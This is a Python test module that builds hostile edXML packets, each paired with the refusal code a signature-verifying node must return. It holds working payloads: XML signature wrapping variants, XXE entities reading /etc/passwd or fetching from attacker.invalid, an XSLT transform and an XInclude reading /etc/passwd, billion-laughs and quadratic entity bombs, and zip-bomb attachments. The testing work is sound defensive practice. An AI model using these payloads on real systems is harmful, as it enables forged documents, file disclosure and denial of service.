"""The crafted hostile packets: one small named factory per attack (STYLE §9: named for what
they pin, like ``xsw3_wrapped_reference.xml``), each with the exact refusal it must meet.

``code`` is what :func:`docnode.verification.check_packet` must answer (``None``: the packet
verifies, and the refusal comes from the store-backed receive path); ``http`` is the
problem+json ``code`` of ``POST /edxml/v1/messages`` on a running node; ``reason`` is the
certificate sub-reason. The HTTP run posts :data:`REPLAY_BASE` first, so that the replay
cases meet a packet already received under their (From, DocumentId).
"""

from __future__ import annotations

import base64
import copy
import os
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta

from lxml import etree

from envelopes.edxml import AttachmentEncoding, encode_edoc
from envelopes.model import Attachment

from .crafting import (
    DS_NS,
    ENVELOPED,
    EXC_C14N,
    LIMITS,
    NS,
    Kit,
    ds,
    edx,
    handmade_signature,
    header_of,
    parse,
    serialise,
    signature_of,
)

Factory = Callable[[Kit], bytes]


@dataclass(frozen=True)
class Case:
    name: str
    build: Factory
    code: str | None
    """check_packet's error code (None: verification passes)."""
    http: str
    """problem+json code over HTTP."""
    reason: str | None = None


CASES: dict[str, Case] = {}


def case(code: str | None, *, http: str | None = None, reason: str | None = None
         ) -> Callable[[Factory], Factory]:
    def register(factory: Factory) -> Factory:
        name = factory.__name__
        http_code = http if http is not None else code
        assert http_code is not None, name
        CASES[name] = Case(name, factory, code, http_code, reason)
        return factory

    return register


# The (From, DocumentId) the HTTP run delivers first; the replay cases reuse it.
REPLAY_DOCUMENT_ID = "000.00.00.G22,2026/12/01,9001/BNV-VP"


def replay_base(kit: Kit) -> bytes:
    return kit.signed(kit.edoc(document_id=REPLAY_DOCUMENT_ID, subject="Bản gốc"))


REPLAY_BASE = replay_base


def _drop(element: etree._Element) -> None:
    parent = element.getparent()
    assert parent is not None
    parent.remove(element)


def _envelope(root: etree._Element) -> etree._Element:
    env = root.find(edx("edXMLEnvelope"))
    assert env is not None
    return env


def _subject(root: etree._Element) -> etree._Element:
    found = root.find(f".//{edx('Subject')}")
    assert found is not None
    return found


def _evil(root: etree._Element) -> None:
    """What every wrapping attack wants the node to read: another sender and subject."""
    _subject(root).text = "Lệnh chuyển tiền khẩn"
    organ = root.find(f".//{edx('From')}/{edx('OrganId')}")
    assert organ is not None
    organ.text = "000.00.00.A01"


def _genuine(kit: Kit) -> etree._Element:
    return parse(kit.signed())


# --- XML signature wrapping: the 8 classic shapes (Somorovsky et al., adapted) -----------


@case("signature_policy")
def xsw1_original_inside_signature_object(kit: Kit) -> bytes:
    """Evil content at the signed place; the genuine packet hidden in ds:Object."""
    root = _genuine(kit)
    original = copy.deepcopy(root)
    sig = signature_of(root)
    etree.SubElement(sig, ds("Object")).append(original)
    _evil(root)
    return serialise(root)


@case("signature_invalid")
def xsw2_original_envelope_before_signature(kit: Kit) -> bytes:
    """A copy of the genuine envelope as a sibling before the Signature, evil content read."""
    root = _genuine(kit)
    genuine_env = copy.deepcopy(_envelope(root))
    for sig in genuine_env.iter(ds("Signature")):
        _drop(sig)
    header = header_of(root)
    header.insert(len(header) - 1, genuine_env)
    _evil(root)
    return serialise(root)


@case("signature_policy")
def xsw3_evil_envelope_first(kit: Kit) -> bytes:
    """An evil, unsigned envelope before the genuine signed one (first match wins?)."""
    root = _genuine(kit)
    evil = copy.deepcopy(_envelope(root))
    for sig in evil.iter(ds("Signature")):
        _drop(sig)
    _evil(evil)
    root.insert(0, evil)
    return serialise(root)


@case("signature_policy")
def xsw4_evil_envelope_wraps_original(kit: Kit) -> bytes:
    """The genuine envelope becomes a child of an evil one."""
    root = _genuine(kit)
    genuine_env = _envelope(root)
    evil = copy.deepcopy(genuine_env)
    for sig in evil.iter(ds("Signature")):
        _drop(sig)
    _evil(evil)
    root.replace(genuine_env, evil)
    evil.append(genuine_env)
    return serialise(root)


@case("signature_invalid")
def xsw5_signature_moved_to_evil_copy(kit: Kit) -> bytes:
    """An evil copy first, carrying the genuine Signature; the genuine envelope after it."""
    root = _genuine(kit)
    genuine_env = _envelope(root)
    evil = copy.deepcopy(genuine_env)
    _evil(evil)
    sig = signature_of(root)
    _drop(sig)
    root.insert(0, evil)
    return serialise(root)


@case("signature_policy")
def xsw6_original_inside_signature_of_evil(kit: Kit) -> bytes:
    """Evil envelope first with the Signature; the genuine one inside that Signature."""
    root = _genuine(kit)
    genuine_env = _envelope(root)
    evil = copy.deepcopy(genuine_env)
    _evil(evil)
    root.replace(genuine_env, evil)
    sig = evil.find(f".//{ds('Signature')}")
    assert sig is not None
    for inner in genuine_env.iter(ds("Signature")):
        _drop(inner)
    etree.SubElement(sig, ds("Object")).append(genuine_env)
    return serialise(root)


@case("signature_invalid")
def xsw7_original_in_extensions(kit: Kit) -> bytes:
    """The genuine envelope parked in an unknown Extensions element; evil one in its place."""
    root = _genuine(kit)
    genuine_env = _envelope(root)
    evil = copy.deepcopy(genuine_env)
    _evil(evil)
    root.replace(genuine_env, evil)
    for inner in genuine_env.iter(ds("Signature")):
        _drop(inner)
    etree.SubElement(root, f"{{{NS}}}Extensions").append(genuine_env)
    return serialise(root)


@case("signature_policy")
def xsw8_original_in_object_evil_outside(kit: Kit) -> bytes:
    """Evil content; the Signature keeps a ds:Object holding the genuine unsigned packet."""
    root = _genuine(kit)
    genuine = copy.deepcopy(root)
    for inner in list(genuine.iter(ds("Signature"))):
        _drop(inner)
    _evil(root)
    obj = etree.SubElement(signature_of(root), ds("Object"))
    obj.append(genuine)
    return serialise(root)


# --- several signatures, placement ------------------------------------------------------


@case("signature_policy")
def multiple_signatures_in_header(kit: Kit) -> bytes:
    root = _genuine(kit)
    header_of(root).append(copy.deepcopy(signature_of(root)))
    return serialise(root)


@case("signature_policy")
def multiple_signatures_second_in_body(kit: Kit) -> bytes:
    root = _genuine(kit)
    body = root.find(f"{edx('edXMLEnvelope')}/{edx('edXMLBody')}")
    assert body is not None
    body.append(copy.deepcopy(signature_of(root)))
    return serialise(root)


@case("signature_policy")
def multiple_signatures_attacker_signs_too(kit: Kit) -> bytes:
    """A second, valid signature by another signer over the same content."""
    root = _genuine(kit)
    handmade_signature(root, kit.identity("valid_rsa"),
                       parent=root.find(f"{edx('edXMLEnvelope')}/{edx('edXMLBody')}"))
    return serialise(root)


@case("signature_policy")
def signature_first_in_header(kit: Kit) -> bytes:
    root = _genuine(kit)
    sig = signature_of(root)
    header_of(root).insert(0, sig)
    return serialise(root)


@case("signature_policy")
def signature_in_attachment_encoded(kit: Kit) -> bytes:
    root = parse(kit.unsigned())
    parent = root.find(edx("AttachmentEncoded"))
    assert parent is not None
    handmade_signature(root, kit.identity("valid"), parent=parent)
    return serialise(root)


# --- references to other ids, external references --------------------------------------


def _with_reference(kit: Kit, uri: str, *, mark_id: bool = False) -> bytes:
    root = parse(kit.unsigned())
    if mark_id:
        header_of(root).set("Id", "hdr")
    handmade_signature(root, kit.identity("valid"), uri=uri)
    return serialise(root)


@case("signature_policy")
def reference_to_other_id(kit: Kit) -> bytes:
    """URI="#hdr": only the header would be covered, the body and attachments free to change."""
    return _with_reference(kit, "#hdr", mark_id=True)


@case("signature_policy")
def reference_external_url(kit: Kit) -> bytes:
    return _with_reference(kit, "http://attacker.invalid/packet.xml")


@case("signature_policy")
def reference_xpointer_root(kit: Kit) -> bytes:
    return _with_reference(kit, "#xpointer(/)")


@case("signature_policy")
def reference_twice(kit: Kit) -> bytes:
    root = parse(kit.unsigned())
    handmade_signature(root, kit.identity("valid"), references=2)
    return serialise(root)


# --- transform abuse --------------------------------------------------------------------


def _with_transforms(kit: Kit, *steps: tuple[str, str | None]) -> bytes:
    root = parse(kit.unsigned())
    handmade_signature(root, kit.identity("valid"), transforms=steps)
    return serialise(root)


@case("signature_policy")
def transform_xpath_selects_nothing(kit: Kit) -> bytes:
    return _with_transforms(
        kit, (ENVELOPED, None),
        ("http://www.w3.org/TR/1999/REC-xpath-19991116",
         f'<ds:XPath xmlns:ds="{DS_NS}">not(ancestor-or-self::*)</ds:XPath>'),
        (EXC_C14N, None),
    )


@case("signature_policy")
def transform_xslt_stylesheet(kit: Kit) -> bytes:
    xslt = ('<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
            '<xsl:template match="/"><xsl:copy-of select="document(\'file:///etc/passwd\')"/>'
            "</xsl:template></xsl:stylesheet>")
    return _with_transforms(kit, (ENVELOPED, None),
                            ("http://www.w3.org/TR/1999/REC-xslt-19991116", xslt))


@case("signature_policy")
def transform_xpath_filter2_subtract(kit: Kit) -> bytes:
    xpath = ('<dsig-xpath:XPath xmlns:dsig-xpath="http://www.w3.org/2002/06/xmldsig-filter2" '
             'Filter="subtract">//*[local-name()="edXMLBody"]</dsig-xpath:XPath>')
    return _with_transforms(kit, (ENVELOPED, None),
                            ("http://www.w3.org/2002/06/xmldsig-filter2", xpath),
                            (EXC_C14N, None))


@case("signature_policy")
def transform_c14n_with_comments(kit: Kit) -> bytes:
    return _with_transforms(kit, (ENVELOPED, None),
                            ("http://www.w3.org/2001/10/xml-exc-c14n#WithComments", None))


@case("signature_policy")
def transform_base64_decode(kit: Kit) -> bytes:
    return _with_transforms(kit, (ENVELOPED, None),
                            ("http://www.w3.org/2000/09/xmldsig#base64", None))


@case("signature_policy")
def transform_enveloped_only(kit: Kit) -> bytes:
    return _with_transforms(kit, (ENVELOPED, None))


# --- algorithms and key material ----------------------------------------------------------


@case("signature_policy")
def method_hmac_with_certificate_as_key(kit: Kit) -> bytes:
    root = parse(kit.unsigned())
    handmade_signature(root, kit.identity("valid"), method="hmac-sha256")
    return serialise(root)


@case("signature_policy")
def method_rsa_sha1(kit: Kit) -> bytes:
    root = parse(kit.unsigned(kit.edoc(sender="000.00.00.H41", recipient="000.00.00.G22")))
    handmade_signature(root, kit.identity("valid_rsa"), method="rsa-sha1", digest="sha1")
    return serialise(root)


@case("signature_policy")
def keyinfo_key_value_without_certificate(kit: Kit) -> bytes:
    root = parse(kit.unsigned())

    def key_value(info: etree._Element) -> None:
        etree.SubElement(etree.SubElement(info, ds("KeyValue")), ds("ECKeyValue"))

    handmade_signature(root, kit.identity("valid"), key_info=key_value)
    return serialise(root)


@case("signature_policy")
def keyinfo_retrieval_method_external(kit: Kit) -> bytes:
    root = parse(kit.unsigned())

    def retrieval(info: etree._Element) -> None:
        etree.SubElement(info, ds("RetrievalMethod"), URI="http://attacker.invalid/cert.der",
                         Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate")

    handmade_signature(root, kit.identity("valid"), key_info=retrieval)
    return serialise(root)


@case("signature_invalid")
def keyinfo_certificate_swapped(kit: Kit) -> bytes:
    """Signed with the revoked key, KeyInfo names the valid certificate."""
    root = parse(kit.unsigned())
    revoked, valid = kit.identity("revoked"), kit.identity("valid")
    handmade_signature(root, revoked, certificates=(valid.certificate, *valid.chain))
    return serialise(root)


@case("signature_invalid")
def keyinfo_certificate_invalid_version(kit: Kit) -> bytes:
    """X.509 version 106: cryptography raises InvalidVersion, which is no ValueError (found
    by fuzz/fuzz_verify.py); KeyInfo is outside the signature, so no re-signing is needed."""
    def corrupt(root: etree._Element) -> None:
        node = root.find(f".//{ds('X509Certificate')}")
        assert node is not None and node.text
        der = base64.b64decode(node.text)
        version = b"\xa0\x03\x02\x01\x02"  # [0] EXPLICIT INTEGER 2 (v3)
        assert version in der
        node.text = base64.b64encode(der.replace(version, b"\xa0\x03\x02\x01\x6a", 1)).decode()

    return kit.signed_then_edited(corrupt)


@case("signature_policy")
def cert_weak_key_rsa1024(kit: Kit) -> bytes:
    """RSA-1024: refused by the signature policy before trust is even asked."""
    root = parse(kit.unsigned())
    handmade_signature(root, kit.identity("weak_key"))
    return serialise(root)


# --- tampering and comment injection ------------------------------------------------------


@case("signature_invalid")
def tampered_subject_after_signing(kit: Kit) -> bytes:
    return kit.signed_then_edited(lambda root: setattr(_subject(root), "text", "Đã sửa"))


@case(None, http="duplicate_conflict")
def comment_injected_in_digest_value(kit: Kit) -> bytes:
    """Text before a comment is all that ``.text`` returns; signxml reads SignedInfo from its
    canonical form, so the digest is not cut short and the packet still verifies: only its
    bytes differ from the one received, a replay conflict."""
    def inject(root: etree._Element) -> None:
        value = root.find(f".//{ds('DigestValue')}")
        assert value is not None and value.text
        head, tail = value.text[:10], value.text[10:]
        value.text = head
        comment = etree.Comment("x")
        comment.tail = tail
        value.append(comment)

    root = parse(replay_base(kit))
    inject(root)
    return serialise(root)


@case("signature_invalid")
def comment_injected_in_x509_certificate(kit: Kit) -> bytes:
    def inject(root: etree._Element) -> None:
        node = root.find(f".//{ds('X509Certificate')}")
        assert node is not None and node.text
        head, tail = node.text[:40], node.text[40:]
        node.text = head
        comment = etree.Comment("x")
        comment.tail = tail
        node.append(comment)

    return kit.signed_then_edited(inject)


@case("signature_invalid")
def comment_hides_retargeted_sender(kit: Kit) -> bytes:
    """``000.00.00.A01<!--000.00.00.G22-->``: the signed sender moved into a comment."""
    def inject(root: etree._Element) -> None:
        organ = root.find(f".//{edx('From')}/{edx('OrganId')}")
        assert organ is not None
        organ.text = "000.00.00.A01"
        organ.append(etree.Comment("000.00.00.G22"))

    return kit.signed_then_edited(inject)


@case(None, http="duplicate_conflict")
def comment_injected_in_signed_text_replayed(kit: Kit) -> bytes:
    """A comment splitting signed text changes no signed value (the verified tree is the
    canonical one), but the bytes differ from the packet received: a replay conflict."""
    def inject(root: etree._Element) -> None:
        subject = _subject(root)
        assert subject.text
        head, tail = subject.text[:4], subject.text[4:]
        subject.text = head
        comment = etree.Comment(" injected ")
        comment.tail = tail
        subject.append(comment)

    root = parse(replay_base(kit))
    inject(root)
    return serialise(root)


@case("signature_missing")
def unsigned_packet(kit: Kit) -> bytes:
    return kit.unsigned()


@case("signature_missing")
def legacy_signature_without_dsig_namespace(kit: Kit) -> bytes:
    root = parse(kit.unsigned())
    sig = etree.SubElement(header_of(root), edx("Signature"))
    etree.SubElement(sig, edx("SignatureValue")).text = "AAAA"
    return serialise(root)


# --- DTD, entities, XInclude, processing instructions --------------------------------------


def _prolog(kit: Kit, doctype: str) -> bytes:
    data = kit.signed()
    decl, rest = data.split(b"\n", 1)
    return decl + b"\n" + doctype.encode() + b"\n" + rest


@case("forbidden_xml")
def dtd_internal_subset(kit: Kit) -> bytes:
    return _prolog(kit, '<!DOCTYPE edXML [<!ELEMENT edXML ANY>]>')


@case("forbidden_xml")
def xxe_external_file_entity(kit: Kit) -> bytes:
    data = _prolog(kit, '<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
    return data.replace("Về việc".encode(), b"&xxe;", 1)


@case("forbidden_xml")
def xxe_parameter_entity_over_network(kit: Kit) -> bytes:
    return _prolog(kit, '<!DOCTYPE edXML [<!ENTITY % remote SYSTEM '
                        '"http://attacker.invalid/evil.dtd"> %remote;]>')


@case("forbidden_xml")
def billion_laughs(kit: Kit) -> bytes:
    lines = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    data = _prolog(kit, "<!DOCTYPE edXML [" + "".join(lines) + "]>")
    return data.replace("Về việc".encode(), b"&lol9;", 1)


@case("forbidden_xml")
def quadratic_blowup(kit: Kit) -> bytes:
    data = _prolog(kit, '<!DOCTYPE edXML [<!ENTITY a "' + "a" * 50_000 + '">]>')
    return data.replace("Về việc".encode(), b"&a;" * 20_000, 1)


@case("forbidden_xml")
def doctype_in_utf16(kit: Kit) -> bytes:
    """The same DOCTYPE, in UTF-16, where a byte scan for ``<!DOCTYPE`` would miss it."""
    text = _prolog(kit, '<!DOCTYPE edXML [<!ENTITY x "y">]>').decode("utf-8")
    text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    return text.encode("utf-16")


@case("forbidden_xml")
def xinclude_passwd(kit: Kit) -> bytes:
    def add(root: etree._Element) -> None:
        body = root.find(f"{edx('edXMLEnvelope')}/{edx('edXMLBody')}")
        assert body is not None
        etree.SubElement(body, "{http://www.w3.org/2001/XInclude}include",
                         href="file:///etc/passwd", parse="text")

    # Added after signing: the refusal must come from the parser, before any signature check.
    return kit.signed_then_edited(add)


@case("forbidden_xml")
def processing_instruction_stylesheet(kit: Kit) -> bytes:
    data = kit.signed()
    decl, rest = data.split(b"\n", 1)
    pi = b'<?xml-stylesheet type="text/xsl" href="http://attacker.invalid/x.xsl"?>'
    return decl + b"\n" + pi + b"\n" + rest


@case("malformed_xml")
def undeclared_entity_reference(kit: Kit) -> bytes:
    return kit.signed().replace("Về việc".encode(), b"&xxe;", 1)


# --- malformed, deep, large -------------------------------------------------------------


def _nest(kit: Kit, levels: int) -> bytes:
    data = kit.signed()
    deep = b"<d>" * levels + b"</d>" * levels
    return data.replace(b"</edXML:edXMLBody>", deep + b"</edXML:edXMLBody>", 1)


@case("too_deep")
def deep_nesting_over_limit(kit: Kit) -> bytes:
    return _nest(kit, LIMITS.max_depth + 50)


@case("too_deep")
def deep_nesting_beyond_libxml2(kit: Kit) -> bytes:
    return _nest(kit, 5000)


@case("malformed_xml")
def garbage_bytes(kit: Kit) -> bytes:
    return b"\x00\xff\xfe<edXML" + os.urandom(64).replace(b">", b"")


@case("malformed_xml")
def truncated_packet(kit: Kit) -> bytes:
    data = kit.signed()
    return data[: len(data) // 2]


@case("not_edxml")
def wrong_root_element(kit: Kit) -> bytes:
    return b'<?xml version="1.0"?><Envelope xmlns="urn:other"><Body/></Envelope>'


@case("too_large")
def oversized_packet(kit: Kit) -> bytes:
    data = kit.signed()
    return data + b" " * (LIMITS.max_packet_bytes + 1 - len(data))


@case("schema_invalid")
def unknown_element_in_message_header_signed(kit: Kit) -> bytes:
    def add(root: etree._Element) -> None:
        header = root.find(f".//{edx('MessageHeader')}")
        assert header is not None
        etree.SubElement(header, edx("Transfer")).text = "1000000000 VND"

    return kit.edited_then_signed(add)


# --- attachments ---------------------------------------------------------------------------


@case("attachment_too_large")
def oversized_attachment(kit: Kit) -> bytes:
    blob = os.urandom(LIMITS.max_attachment_bytes + 4096)  # incompressible
    edoc = kit.edoc(attachments=[Attachment("big.pdf", blob, content_type="application/pdf")])
    return kit.sign(encode_edoc(edoc, encoding=AttachmentEncoding.RAW))


@case("attachment_too_large")
def zip_bomb_attachment(kit: Kit) -> bytes:
    edoc = kit.edoc(attachments=[Attachment("zeros.pdf", bytes(3 * LIMITS.max_attachment_bytes),
                                            content_type="application/pdf")])
    return kit.signed(edoc)


@case("too_many_attachments")
def too_many_attachments(kit: Kit) -> bytes:
    edoc = kit.edoc(attachments=[
        Attachment(f"a{i}.txt", f"attachment {i}".encode(), content_type="text/plain")
        for i in range(LIMITS.max_attachments + 1)
    ])
    return kit.signed(edoc)


def _with_encoded(kit: Kit, text: str) -> bytes:
    def change(root: etree._Element) -> None:
        node = root.find(f".//{edx('ContentTransferEncoded')}")
        assert node is not None
        node.text = text

    edoc = kit.edoc(attachments=[Attachment("a.txt", b"ABCD", content_type="text/plain")])
    root = parse(encode_edoc(edoc, encoding=AttachmentEncoding.RAW))
    change(root)
    return kit.sign(serialise(root))


@case("attachment_invalid")
def base64_with_foreign_characters(kit: Kit) -> bytes:
    return _with_encoded(kit, "QUJD*RA==")


@case("attachment_invalid")
def base64_missing_padding(kit: Kit) -> bytes:
    return _with_encoded(kit, "QUJDRA")


@case("attachment_invalid")
def base64_nonzero_padding_bits(kit: Kit) -> bytes:
    """``QUJDRB==`` decodes to ABCD too in a lax decoder: two encodings of one attachment."""
    assert base64.b64decode("QUJDRB==") == b"ABCD"
    return _with_encoded(kit, "QUJDRB==")


@case("attachment_invalid")
def base64_data_after_padding(kit: Kit) -> bytes:
    return _with_encoded(kit, "QUJDRA==QUJD")


@case("manifest_mismatch")
def attachment_without_manifest_reference(kit: Kit) -> bytes:
    def drop(root: etree._Element) -> None:
        ref = root.find(f".//{edx('edXMLManifest')}/{edx('Reference')}")
        assert ref is not None
        extra = copy.deepcopy(ref)
        cid = extra.find(edx("ContentId"))
        assert cid is not None
        cid.text = "cid:not-attached"
        ref.addnext(extra)

    return kit.edited_then_signed(drop)


# --- certificates ---------------------------------------------------------------------------


def _signed_by(name: str) -> Factory:
    def build(kit: Kit) -> bytes:
        return kit.signed(identity=name)

    return build


for _name, _code, _reason in (
    ("expired", "certificate_untrusted", "expired"),
    ("not_yet_valid", "certificate_untrusted", "not_yet_valid"),
    ("revoked", "certificate_revoked", "revoked"),
    ("wrong_eku", "certificate_untrusted", "wrong_eku"),
    ("no_non_repudiation", "certificate_untrusted", "wrong_key_usage"),
    ("other_root_same_name", "certificate_untrusted", "untrusted_root"),
    ("self_signed", "certificate_untrusted", "untrusted_root"),
    ("no_organ_id", "certificate_untrusted", "no_organ_id"),
):
    _factory = _signed_by(_name)
    _factory.__name__ = f"cert_{_name}"
    case(_code, reason=_reason)(_factory)


# --- sender binding, freshness, replay, routing ------------------------------------------------


@case("sender_mismatch")
def from_is_not_the_certificate_organ_id(kit: Kit) -> bytes:
    return kit.signed(kit.edoc(sender="000.00.00.A01"))


@case("stale_packet")
def stale_trace_header(kit: Kit) -> bytes:
    return kit.signed(kit.edoc(stamp=kit.at - timedelta(days=8)))


@case("stale_packet")
def future_trace_header(kit: Kit) -> bytes:
    return kit.signed(kit.edoc(stamp=kit.at + timedelta(hours=1)))


@case("stale_packet")
def missing_trace_header(kit: Kit) -> bytes:
    return kit.signed(kit.edoc(trace=False))


@case(None, http="duplicate_conflict")
def replay_same_document_id_other_bytes(kit: Kit) -> bytes:
    return kit.signed(kit.edoc(document_id=REPLAY_DOCUMENT_ID, subject="Bản sửa đổi"))


@case(None, http="unknown_recipient")
def recipient_not_served_here(kit: Kit) -> bytes:
    return kit.signed(kit.edoc(recipient="000.00.00.B02"))
